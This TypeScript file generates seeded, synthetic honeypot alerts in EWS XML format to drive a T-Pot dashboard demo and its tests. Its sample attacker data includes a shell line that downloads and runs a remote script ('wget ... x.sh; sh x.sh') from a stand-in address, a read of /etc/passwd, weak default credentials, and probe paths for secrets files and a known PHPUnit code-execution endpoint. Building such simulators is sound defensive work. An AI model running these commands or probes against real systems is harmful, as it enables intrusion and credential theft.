/**
 * Realistic synthetic attacks for `peba demo`, the browser tests and the dashboard bench: EWS
 * messages as ewsposter sends them, from a T-Pot's honeypots (cowrie logins and shell input, web
 * requests, port scans, ...), from a pool of public addresses all over the world to a few sensors.
 * Seeded, so a run can be repeated.
 */
import { formatUtc } from '../domain/time';

export interface Credentials {
  readonly username: string;
  readonly token: string;
}

interface RequestFacts {
  readonly requests: Record<string, string>;
  readonly additional: Record<string, string>;
}

interface Honeypot {
  readonly analyzer: string;
  readonly weight: number;
  readonly ports: readonly number[];
  readonly request: (pick: <T>(list: readonly T[]) => T, chance: (p: number) => boolean) => RequestFacts;
}

const USERNAMES = ['root', 'admin', 'user', 'ubuntu', 'test', 'oracle', 'pi', 'support', 'guest', 'ftpuser', 'postgres'];
const PASSWORDS = ['123456', 'admin', 'password', 'root', '1234', '12345678', 'qwerty', 'raspberry', 'P@ssw0rd', 'test123', ''];
const COMMANDS = [
  'uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh',
  'echo -e "\\x41\\x42"', 'nproc', 'cat /etc/passwd', 'free -m', 'ls -lh $(which ls)', 'crontab -l',
];
const URLS = [
  '/', '/.env', '/wp-login.php', '/xmlrpc.php', '/phpmyadmin/index.php', '/cgi-bin/luci/;stok=/locale', '/admin/config.php',
  '/boaform/admin/formLogin', '/HNAP1/', '/actuator/health', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/.git/config', '/owa/auth/logon.aspx', '/solr/admin/info/system', '/console/login/LoginForm.jsp', '/api/v1/pods',
];
const HONEYPOTS: readonly Honeypot[] = [
  { analyzer: 'cowrie', weight: 34, ports: [22, 23, 2222], request: (pick, chance): RequestFacts => chance(0.7)
    ? { requests: { description: 'SSH Honeypot Cowrie' }, additional: { username: pick(USERNAMES), password: pick(PASSWORDS), login: chance(0.1) ? 'Success' : 'Fail' } }
    : { requests: { description: 'SSH Honeypot Cowrie' }, additional: { input: encodeURIComponent(`$ ${pick(COMMANDS)}`) } } },
  { analyzer: 'honeytrap', weight: 20, ports: [445, 3389, 1433, 5900, 8080, 5060, 3306, 6379, 9200, 81], request: () => ({ requests: { description: 'NetworkHoneypot' }, additional: {} }) },
  { analyzer: 'dionaea', weight: 14, ports: [445, 135, 1433, 21, 42, 3306, 5060], request: () => ({ requests: { description: 'Network Honeyport Dionaea v0.1.0' }, additional: {} }) },
  { analyzer: 'tanner', weight: 11, ports: [80, 8080, 443], request: (pick) => ({ requests: { url: encodeURIComponent(pick(URLS)), description: 'Tanner' }, additional: {} }) },
  { analyzer: 'heralding', weight: 5, ports: [21, 110, 143, 5432, 1080], request: (pick) => ({ requests: { description: 'Heralding' }, additional: { username: pick(USERNAMES), password: pick(PASSWORDS) } }) },
  { analyzer: 'conpot', weight: 3, ports: [102, 502, 161, 47808], request: () => ({ requests: { description: 'Conpot' }, additional: {} }) },
  { analyzer: 'mailoney', weight: 3, ports: [25], request: () => ({ requests: { description: 'Mail Honeypot' }, additional: {} }) },
  { analyzer: 'rdpy', weight: 3, ports: [3389], request: () => ({ requests: { description: 'RDP Honeypot' }, additional: {} }) },
  { analyzer: 'adbhoney', weight: 3, ports: [5555], request: () => ({ requests: { description: 'ADB Honeypot' }, additional: {} }) },
  { analyzer: 'elasticpot', weight: 2, ports: [9200], request: () => ({ requests: { url: '/_cat/indices', description: 'Elasticpot' }, additional: {} }) },
  { analyzer: 'ciscoasa', weight: 1, ports: [8443], request: () => ({ requests: { description: 'Cisco ASA' }, additional: {} }) },
  { analyzer: 'ipphoney', weight: 1, ports: [631], request: () => ({ requests: { description: 'IPP Honeypot' }, additional: {} }) },
];
const TOTAL_WEIGHT = HONEYPOTS.reduce((n, h) => n + h.weight, 0);

/** First octets of blocks allocated to the five regional registries (never private or reserved). */
const FIRST_OCTETS = [
  1, 2, 5, 14, 27, 31, 36, 37, 41, 42, 45, 46, 49, 58, 59, 60, 61, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88, 89, 90, 91, 92,
  93, 94, 95, 101, 103, 106, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 138, 139, 141, 154,
  156, 160, 161, 163, 171, 175, 176, 177, 178, 179, 180, 181, 182, 183, 185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197,
  200, 201, 202, 203, 210, 211, 212, 213, 217, 218, 219, 220, 221, 222, 223,
];

/** Sensors of a small T-Pot fleet: hostname and public address. */
const SENSORS = [
  ['tpot-fra-01', '81.169.145.10'], ['tpot-ams-02', '145.131.10.20'], ['tpot-nyc-01', '162.243.20.30'],
  ['tpot-sin-01', '128.199.30.40'], ['tpot-syd-01', '103.4.16.50'], ['tpot-gru-01', '177.71.40.60'],
] as const;

const xmlText = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

export class AttackGenerator {
  private state: number;
  private readonly sources: string[];

  constructor(seed = 12, sourcePool = 600) {
    this.state = seed >>> 0 || 1;
    // Attackers repeat: a pool of addresses, some much busier than others.
    this.sources = Array.from({ length: sourcePool }, () =>
      `${this.pick(FIRST_OCTETS)}.${this.int(256)}.${this.int(256)}.${1 + this.int(254)}`);
  }

  /** A message of `count` alerts created at `time` (epoch ms), as ewsposter sends them. */
  message(count: number, credentials: Credentials, time = Date.now()): string {
    const alerts: string[] = [];
    for (let i = 0; i < count; i++) alerts.push(this.alert(time));
    return `<EWS-SimpleMessage version="3.0">
  <Authentication>
    <username>${xmlText(credentials.username)}</username>
    <token>${xmlText(credentials.token)}</token>
  </Authentication>
${alerts.join('\n')}
</EWS-SimpleMessage>`;
  }

  /** A source address of the pool, busier ones more often. */
  source(): string {
    const r = this.next();
    return this.sources[Math.floor(r * r * this.sources.length)]!;
  }

  private alert(time: number): string {
    let roll = this.int(TOTAL_WEIGHT);
    const honeypot = HONEYPOTS.find((h) => (roll -= h.weight) < 0)!;
    const [hostname, target] = this.pick(SENSORS);
    const { requests, additional } = honeypot.request((list) => this.pick(list), (p) => this.next() < p);
    const port = this.pick(honeypot.ports);
    const lines = [
      `    <Analyzer id="${honeypot.analyzer}-${hostname}"/>`,
      `    <CreateTime tz="+0000">${formatUtc(time)}</CreateTime>`,
      `    <Source category="ipv4" port="${1024 + this.int(64000)}" protocol="tcp">${this.source()}</Source>`,
      `    <Target category="ipv4" port="${port}" protocol="tcp">${target}</Target>`,
      ...Object.entries(requests).map(([type, value]) => `    <Request type="${type}">${xmlText(value)}</Request>`),
      ...Object.entries({ ...additional, hostname }).map(([meaning, value]) => `    <AdditionalData meaning="${meaning}" type="string">${xmlText(value)}</AdditionalData>`),
    ];
    return `  <Alert>\n${lines.join('\n')}\n  </Alert>`;
  }

  /** xorshift32: fast, seeded, good enough for synthetic traffic. */
  private next(): number {
    let x = this.state;
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    this.state = x >>> 0;
    return this.state / 4294967296;
  }

  private int(n: number): number {
    return Math.floor(this.next() * n);
  }

  private pick<T>(list: readonly T[]): T {
    return list[this.int(list.length)]!;
  }
}
